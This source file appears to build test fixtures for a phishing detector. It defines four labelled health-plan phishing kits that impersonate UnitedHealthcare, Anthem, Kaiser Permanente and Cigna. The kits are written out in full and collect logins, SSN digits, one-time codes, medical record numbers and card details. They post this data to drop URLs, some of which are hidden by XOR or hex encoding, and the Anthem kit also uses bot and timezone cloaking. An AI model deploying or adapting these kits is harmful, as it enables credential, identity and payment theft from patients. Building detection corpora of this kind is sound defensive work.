import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, chunks, codes, css, dotIcon, hex, logos, planFooter, shell, xorB64, xorDecoderJs } from '../parts/yt-kit.js';

/** Member-portal credential kits for health plans: multi-step, Telegram/PHP/form-service drops, cloaking, look-alikes. */
// ---- UnitedHealthcare three-step kit (credentials, identity, one-time code) posting each step to a PHP drop
const uhcKit = shell({
  title: 'Sign In | myuhc.com',
  favicon: dotIcon('#002677'),
  css: css.portal + `.btn{background:#002677}.steps{display:flex;gap:6px;margin-bottom:18px}.steps span{flex:1;height:4px;background:#dde2ea;border-radius:2px}.steps span.on{background:#ff612b}
.step{display:none}.step.on{display:block}.hint{font-size:12px;color:#666;margin-top:4px}`,
  body: `<div class="top">${logos.uhc}<a href="#">Español</a></div>
<div class="card">
  <div class="steps"><span class="on" id="s1"></span><span id="s2"></span><span id="s3"></span></div>
  <div class="err" id="err">The information you entered doesn't match our records. Please try again.</div>
  <form id="f1" class="step on" autocomplete="off">
    <h1>Sign in to myuhc</h1>
    <p class="sub">Use your One Healthcare ID to see claims, benefits and your ID card.</p>
    <label for="u">One Healthcare ID or email</label><input type="text" id="u" name="username" required>
    <label for="p">Password</label><input type="password" id="p" name="password" required>
    <label style="font-weight:400;font-size:14px"><input type="checkbox" checked> Remember me</label>
    <button class="btn" type="submit">Sign In</button>
    <div class="links"><a href="#">Forgot One Healthcare ID?</a><a href="#">Forgot password?</a><a href="#">Register now</a></div>
  </form>
  <form id="f2" class="step">
    <h1>Confirm it's you</h1>
    <p class="sub">For your protection we need to verify your identity before you can view claims.</p>
    <label>Member ID (on your health plan ID card)</label><input type="text" name="member_id" required maxlength="11">
    <label>Date of birth</label><input type="text" name="dob" placeholder="MM/DD/YYYY" required>
    <label>Last 4 digits of SSN</label><input type="password" name="ssn4" required maxlength="4" inputmode="numeric">
    <label>ZIP code</label><input type="text" name="zip" required maxlength="5">
    <button class="btn" type="submit">Continue</button>
  </form>
  <form id="f3" class="step">
    <h1>Enter your security code</h1>
    <p class="sub">We sent a 6-digit code to the phone number on your account.</p>
    <label>Security code</label><input type="tel" name="otp" required maxlength="6">
    <p class="hint">Code expires in <b id="t">4:59</b></p>
    <button class="btn" type="submit">Verify</button>
  </form>
</div>
<div class="foot">${planFooter('United HealthCare Services, Inc.')}</div>
<script>
var sid = Math.random().toString(36).slice(2,10);
function send(step, form, next){
  var d = new FormData(form); d.append('step', step); d.append('sid', sid); d.append('ua', navigator.userAgent);
  fetch('next.php', {method:'POST', body:d}).then(function(){ next(); }).catch(function(){ next(); });
}
function show(n){ ['f1','f2','f3'].forEach(function(x,i){ document.getElementById(x).className = 'step' + (i===n?' on':''); document.getElementById('s'+(i+1)).className = i<=n?'on':''; }); }
var tries = 0;
document.getElementById('f1').onsubmit = function(e){ e.preventDefault(); var f=this;
  send('login', f, function(){ tries++; if (tries < 2) { document.getElementById('err').style.display='block'; f.reset(); } else { document.getElementById('err').style.display='none'; show(1); } }); };
document.getElementById('f2').onsubmit = function(e){ e.preventDefault(); send('identity', this, function(){ show(2); }); };
document.getElementById('f3').onsubmit = function(e){ e.preventDefault(); send('otp', this, function(){ location.href = 'https://www.myuhc.com/'; }); };
</script>`,
});

// ---- Anthem: cloaked behind a browser check, kit is an XOR-encrypted blob written at load
const anthemInner = `<div style="max-width:440px;margin:40px auto;font-family:Arial;background:#fff;padding:30px;border-radius:6px;box-shadow:0 1px 8px #0002">
${logos.anthem}
<h2 style="margin:18px 0 4px">Log in to Sydney Health</h2>
<p style="color:#555;font-size:14px">Your Anthem account. One login for benefits, claims and care.</p>
<form id="ax" method="post" action="https://anthem-verify-members.icu/gate/receive.php">
<label style="display:block;margin-top:14px;font-weight:bold">Username</label><input name="u" style="width:100%;padding:10px" required>
<label style="display:block;margin-top:14px;font-weight:bold">Password</label><input name="p" type="password" style="width:100%;padding:10px" required>
<input type="hidden" name="src" value="sydney">
<button style="margin-top:20px;width:100%;padding:12px;background:#0079c2;color:#fff;border:0;border-radius:20px;font-size:16px">Log In</button>
</form>
<p style="font-size:13px"><a href="#">Forgot username?</a> | <a href="#">Forgot password?</a></p></div>`;
const anthemKey = 'sY7dn3Y';
const anthemCloak = shell({
  title: 'Just a moment...',
  css: `body{font-family:Arial;background:#f2f4f7;margin:0}.w{text-align:center;margin-top:18vh;color:#333}.sp{width:38px;height:38px;border:4px solid #ccd;border-top-color:#0079c2;border-radius:50%;animation:r 1s linear infinite;margin:20px auto}@keyframes r{to{transform:rotate(360deg)}}`,
  body: `<div class="w" id="w"><h2>Checking your browser before accessing the member portal</h2><div class="sp"></div><p>This process is automatic. You will be redirected shortly.</p></div>
<script>
${xorDecoderJs('_d')}
(function(){
  var bad = navigator.webdriver || /HeadlessChrome|PhantomJS|Lighthouse|bot|crawl|spider|curl/i.test(navigator.userAgent) || !navigator.languages || navigator.languages.length === 0 || (screen.width < 200);
  var tz = ''; try { tz = Intl.DateTimeFormat().resolvedOptions().timeZone || ''; } catch(e) {}
  if (bad || tz.indexOf('America/') !== 0) { location.replace('https://www.wikipedia.org/'); return; }
  setTimeout(function(){
    document.body.innerHTML = _d('${xorB64(anthemInner, anthemKey)}', '${anthemKey}');
    document.body.style.background = '#eef2f6';
    document.title = 'Log In | Anthem';
  }, 1400);
})();
</script>`,
});

// ---- Kaiser Permanente kit parked on a compromised dental-practice WordPress site, reached via a mail click tracker
const kpKit = shell({
  title: 'Sign in | Kaiser Permanente',
  favicon: dotIcon('#0078b3'),
  css: css.portal + `.btn{background:#0078b3;border-radius:4px}.note{background:#fff8e1;border:1px solid #f0c36d;padding:10px;font-size:13px;margin-bottom:14px}`,
  body: `<div class="top">${logos.kp}<a href="#">Choose your region ▾</a></div>
<div class="card">
  <div class="note">You have a new secure message from your care team regarding your recent lab results.</div>
  <h1>Sign in</h1>
  <p class="sub">Sign in to view your message, test results and appointments.</p>
  <form id="kpf" method="post" action="../../../../../wp-includes/css/dist/kp_post.php">
    <label>User ID</label><input type="text" name="kpuid" required>
    <label>Password</label><input type="password" name="kppw" required>
    <label>Medical record number (MRN)</label><input type="text" name="mrn" required>
    <button class="btn">Sign in</button>
  </form>
  <div class="links"><a href="#">Forgot user ID?</a><a href="#">Forgot password?</a><a href="#">Register</a></div>
</div>
<div class="foot"><p>Kaiser Foundation Health Plan, Inc. · 1 Kaiser Plaza, Oakland, CA 94612</p></div>`,
});

// ---- Cigna: action and drop assembled from hex / char codes, then asks for a card "to deposit your reward"
const cignaDrop = 'https://mycigna-rewards-claim.xyz/api/v2/collect.php';
const cignaKit = shell({
  title: 'myCigna - Healthy Rewards',
  favicon: dotIcon('#f58025'),
  css: css.portal + `.btn{background:#0a4a78}.reward{background:linear-gradient(90deg,#f58025,#f6a04d);color:#fff;border-radius:8px;padding:16px;margin-bottom:18px}.reward b{font-size:28px;display:block}`,
  body: `<div class="top">${logos.cigna}<a href="#">Contact us</a></div>
<div class="card">
  <div class="reward">Your Healthy Rewards balance<b>$250.00</b>Claim before 11/30/2025 or it will expire.</div>
  <div id="a">
    <h1>Log in to myCigna</h1>
    <label>Username</label><input type="text" id="cu">
    <label>Password</label><input type="password" id="cp">
    <button class="btn" type="button" onclick="go1()">Log In</button>
  </div>
  <div id="b" style="display:none">
    <h1>Where should we send your reward?</h1>
    <p class="sub">Rewards are loaded onto your debit card within 24 hours.</p>
    <label>Name on card</label><input type="text" id="cn">
    <label>Card number</label><input type="tel" id="cc" maxlength="19">
    <div style="display:flex;gap:10px"><div style="flex:1"><label>Exp (MM/YY)</label><input type="text" id="ce" maxlength="5"></div><div style="flex:1"><label>CVV</label><input type="password" id="cv" maxlength="4"></div></div>
    <label>Billing ZIP</label><input type="text" id="cz" maxlength="5">
    <button class="btn" type="button" onclick="go2()">Claim $250.00</button>
  </div>
</div>
<div class="foot">${planFooter('Cigna')}</div>
<script>
var _h='${hex(cignaDrop)}';
function _x(h){var s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));return s;}
var _k=String.fromCharCode(${codes('application/x-www-form-urlencoded')});
function post(o){var x=new XMLHttpRequest();x.open('POST',_x(_h),false);x.setRequestHeader('Content-Type',_k);try{x.send(new URLSearchParams(o).toString());}catch(e){}}
function v(i){return document.getElementById(i).value;}
function go1(){ if(!v('cu')||!v('cp'))return; post({t:'login',u:v('cu'),p:v('cp')}); document.getElementById('a').style.display='none'; document.getElementById('b').style.display='block'; }
function go2(){ post({t:'card',n:v('cn'),c:v('cc'),e:v('ce'),v:v('cv'),z:v('cz')}); document.body.innerHTML='<p style="font:18px Arial;text-align:center;margin-top:20vh">Thank you. Your reward is being processed.</p>'; setTimeout(function(){location='https://my.cigna.com/';},2500); }
</script>`,
});

export const entries: Entry[] = [
{
  id: 'yt-uhc-myuhc-three-step-php',
  label: 'phishing',
  kind: 'member-portal-credential-kit',
  url: 'https://myuhc-memberverify.top/secure/signin/index.php',
  body: uhcKit,
  routes: {
    'myuhc-memberverify.top/secure/signin/next.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'yt-anthem-sydney-cloaked-xor',
  label: 'phishing',
  kind: 'cloaked-member-portal-kit',
  url: 'https://sydneyhealth-anthem-login.pages.dev/',
  body: anthemCloak,
},
{
  id: 'yt-kp-compromised-wp-click-chain',
  label: 'phishing',
  kind: 'member-portal-credential-kit',
  url: 'https://click.kpnotify-mailer.com/ls/click?upn=kp-lab-results-7Hq2',
  routes: {
    'click.kpnotify-mailer.com/ls/click': redirectRoute(302, 'https://www.lakesidefamilydentalmn.com/wp-content/uploads/2025/10/kp/?e=bWVtYmVy'),
    'www.lakesidefamilydentalmn.com/wp-content/uploads/2025/10/kp/': redirectRoute(302, 'https://www.lakesidefamilydentalmn.com/wp-content/uploads/2025/10/kp/signin.html'),
    'www.lakesidefamilydentalmn.com/wp-content/uploads/2025/10/kp/signin.html': htmlRoute(kpKit),
  },
},
{
  id: 'yt-cigna-rewards-hex-drop-card',
  label: 'phishing',
  kind: 'member-portal-credential-kit',
  url: 'https://mycigna-rewards-claim.xyz/healthy-rewards/login',
  body: cignaKit,
  routes: { 'mycigna-rewards-claim.xyz/api/v2/collect.php': jsonRoute({ status: 'ok' }) },
},
];
